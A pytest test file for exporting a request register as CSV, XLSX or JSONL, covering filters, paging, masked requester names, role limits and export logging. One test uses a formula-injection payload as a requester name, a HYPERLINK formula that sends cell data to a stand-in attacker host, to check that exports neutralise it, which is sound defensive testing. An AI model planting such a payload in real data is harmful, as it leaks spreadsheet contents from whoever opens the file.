"""Lists as files: the filters of the list, formulas harmless, requesters opened for a purpose."""

import csv
import json
from datetime import timedelta
from io import BytesIO, StringIO
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from griffie.api.composition import Store
from griffie.api.http import list_file
from griffie.api.papers.table.forms import TableForm, table_file
from griffie.application.access.roles import Role
from griffie.application.register import every_item
from griffie.domain.housekeeping import DataExported, Export, day_stream
from tests.conftest import Clock, signed_in
from tests.given.console import looks
from tests.given.story import PERSONAL, receive, tell

LIST = "/api/v1/requests"
PURPOSE = {"Reveal-Reason": "The yearly check of what was answered."}


def sheet(octets: bytes) -> Any:
    """The sheet of a workbook, as openpyxl reads it."""
    return load_workbook(BytesIO(octets)).active


def rows_of(answer: Any) -> list[dict[str, Any]]:
    """What a file says, whatever its form: a mapping a row."""
    assert answer.status_code == 200, answer.text
    assert answer.headers["cache-control"] == "no-store"
    name = answer.headers["content-disposition"]
    if name.endswith('.csv"'):
        return list(csv.DictReader(StringIO(answer.text)))
    if name.endswith('.jsonl"'):
        return [json.loads(line) for line in answer.text.splitlines()]
    head, *rows = [[cell.value for cell in row] for row in sheet(answer.content).rows]
    return [dict(zip(head, row, strict=True)) for row in rows]


@pytest.mark.parametrize("form", TableForm)
def test_a_file_holds_what_the_list_holds(clerk: TestClient, form: TableForm) -> None:
    tell(clerk)
    for channel in ("post", "email", "post"):
        receive(clerk, channel=channel)

    for asked in ({}, {"channel": "post"}, {"status": "closed"}, {"sort": "-received_on"}):
        listed = clerk.get(LIST, params=asked).json()["items"]
        rows = rows_of(clerk.get(LIST, params={**asked, "format": form}))

        assert [row["reference"] for row in rows] == [one["reference"] for one in listed]
        assert [row["due_on"] for row in rows] == [one["deadline"]["due_on"] for one in listed]


def test_a_list_that_is_longer_than_a_page_leaves_whole(
    clerk: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(every_item, "BATCH", 3)
    places = {receive(clerk).rsplit("/", 1)[1] for _ in range(8)}

    every = rows_of(clerk.get(LIST, params={"format": "jsonl"}))
    some = rows_of(clerk.get(LIST, params={"format": "jsonl", "limit": 5}))

    assert {row["id"] for row in every} == places
    assert len(every) == 8
    assert [row["id"] for row in some] == [row["id"] for row in every[:5]]


def test_a_past_list_leaves_as_it_stood(clerk: TestClient, store: Store) -> None:
    receive(clerk)
    then = store.engine.history.newest()
    receive(clerk)

    rows = rows_of(clerk.get(LIST, params={"format": "csv", "position": then}))

    assert len(rows) == 1
    assert clerk.get(LIST, params={"format": "csv", "position": 2**40}).status_code == 422


@pytest.mark.law("gdpr/5/1/c")
@pytest.mark.parametrize("form", TableForm)
def test_requesters_are_masked_unless_a_purpose_is_stated(
    store: Store, clerk: TestClient, form: TableForm
) -> None:
    place = receive(clerk)

    masked = rows_of(clerk.get(LIST, params={"format": form}))
    assert not looks(store, place)
    without = clerk.get(LIST, params={"format": form, "reveal": "true"})
    assert without.status_code == 422
    assert not looks(store, place)
    opened = rows_of(clerk.get(LIST, params={"format": form, "reveal": "true"}, headers=PURPOSE))

    assert masked[0]["requester"] == "A. A…e"
    assert not [word for word in PERSONAL.values() if word in str(masked)]
    assert opened[0]["name"] == PERSONAL["name"]
    (look,) = looks(store, place)
    assert look.reason is not None


def test_each_file_is_recorded_as_leaving(store: Store, clerk: TestClient) -> None:
    receive(clerk)
    clerk.get(LIST)
    clerk.get(LIST, params={"format": "csv"})
    clerk.get(LIST, params={"format": "csv", "reveal": "true"}, headers=PURPOSE)

    left = [
        one
        for one in store.requests.history(day_stream(store.engine.today()))
        if isinstance(one, DataExported)
    ]

    assert [one.what for one in left] == [Export.REGISTER] * 2


def test_nobody_opens_by_a_file_what_they_may_not_open(
    store: Store, clock: Clock, clerk: TestClient
) -> None:
    place = receive(signed_in(store, Role.INTAKE))
    asked = {"format": "csv", "reveal": "true"}
    intake = signed_in(store, Role.INTAKE)

    assert rows_of(intake.get(LIST, params=asked, headers=PURPOSE)) == []  # not its own
    for role in (Role.REPORTER, Role.ADMIN):
        assert signed_in(store, role).get(LIST, params=asked, headers=PURPOSE).status_code == 403
    own = signed_in(store, Role.INTAKE)
    mine = receive(own)
    assert len(rows_of(own.get(LIST, params=asked, headers=PURPOSE))) == 1
    clock.at += timedelta(days=2)

    assert own.get(LIST, params=asked, headers=PURPOSE).status_code == 403
    assert len(looks(store, mine)) == 1
    assert not looks(store, place)


def test_a_long_list_is_not_opened_at_once(
    store: Store, clerk: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(list_file, "LARGEST_OPENED", 1)
    places = [receive(clerk), receive(clerk)]

    refused = clerk.get(LIST, params={"format": "csv", "reveal": "true"}, headers=PURPOSE)

    assert refused.status_code == 422
    assert not [place for place in places if looks(store, place)]


def test_what_was_erased_is_not_opened(store: Store, dpo: TestClient) -> None:
    place = tell(dpo)
    told = {"ground": "test_data", "explanation": "Een proef."}
    assert dpo.post(f"{place}/erase-personal-data", json=told).status_code == 200
    before = len(looks(store, place))

    for asked in ({"format": "csv"}, {"format": "csv", "reveal": "true"}):
        (row,) = rows_of(dpo.get(LIST, params=asked, headers=PURPOSE))
        assert not row.get("name")
        assert not row.get("requester")
    assert len(looks(store, place)) == before


def test_a_requester_who_is_called_like_a_formula_stays_text(clerk: TestClient) -> None:
    wicked = '=HYPERLINK("http://evil.example/?"&A1)'
    receive(clerk, requester={"name": wicked, "email": "x@post.example"})

    for form in (TableForm.CSV, TableForm.XLSX):
        asked = {"format": form, "reveal": "true"}
        (row,) = rows_of(clerk.get(LIST, params=asked, headers=PURPOSE))
        assert row["name"] == f"'{wicked}"
    (row,) = rows_of(clerk.get(LIST, params={"format": "jsonl", "reveal": "true"}, headers=PURPOSE))
    assert row["name"] == wicked


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_no_cell_of_a_workbook_or_csv_is_a_formula(start: str) -> None:
    said = f"{start}1+1"
    octets = b"".join(table_file(TableForm.XLSX, ("a",), [(said,)]))
    (cell,) = list(sheet(octets).rows)[1]
    (_, (text,)) = csv.reader(
        StringIO(b"".join(table_file(TableForm.CSV, ("a",), [(said,)])).decode(), newline="")
    )

    assert cell.data_type == "s"
    assert cell.value == text == f"'{said}"


def test_a_workbook_holds_any_text_that_a_person_may_type() -> None:
    typed = (
        "\x00\x08<&>\ud800",
        "é 😀 漢",
        "  spaces  ",
        "a\r\nb",
        None,
        3,
        2.5,
        True,
        "x" * 40_000,
    )
    octets = b"".join(table_file(TableForm.XLSX, tuple("abcdefghi"), [typed]))

    read = [cell.value for cell in list(sheet(octets).rows)[1]]

    assert read[0] == "\ufffd\ufffd<&>\ufffd"
    assert read[1:3] == ["é 😀 漢", "  spaces  "]
    assert read[4:8] == [None, 3, 2.5, True]
    assert len(read[8]) == 32_767


def test_a_file_is_sent_while_it_is_written() -> None:
    asked: list[int] = []

    def rows() -> Any:
        for number in range(5000):
            asked.append(number)
            yield (f"text {number} {number * 7919 % 1000}",)

    for form in TableForm:
        asked.clear()
        pieces = table_file(form, ("a",), rows())
        assert next(pieces)
        assert len(asked) < 5000, form


@pytest.mark.parametrize("asked", [{"reveal": "true"}, {"format": "pdf"}, {"format": ""}])
def test_what_no_list_can_be_is_refused(clerk: TestClient, asked: dict[str, str]) -> None:
    assert clerk.get(LIST, params=asked).status_code == 422
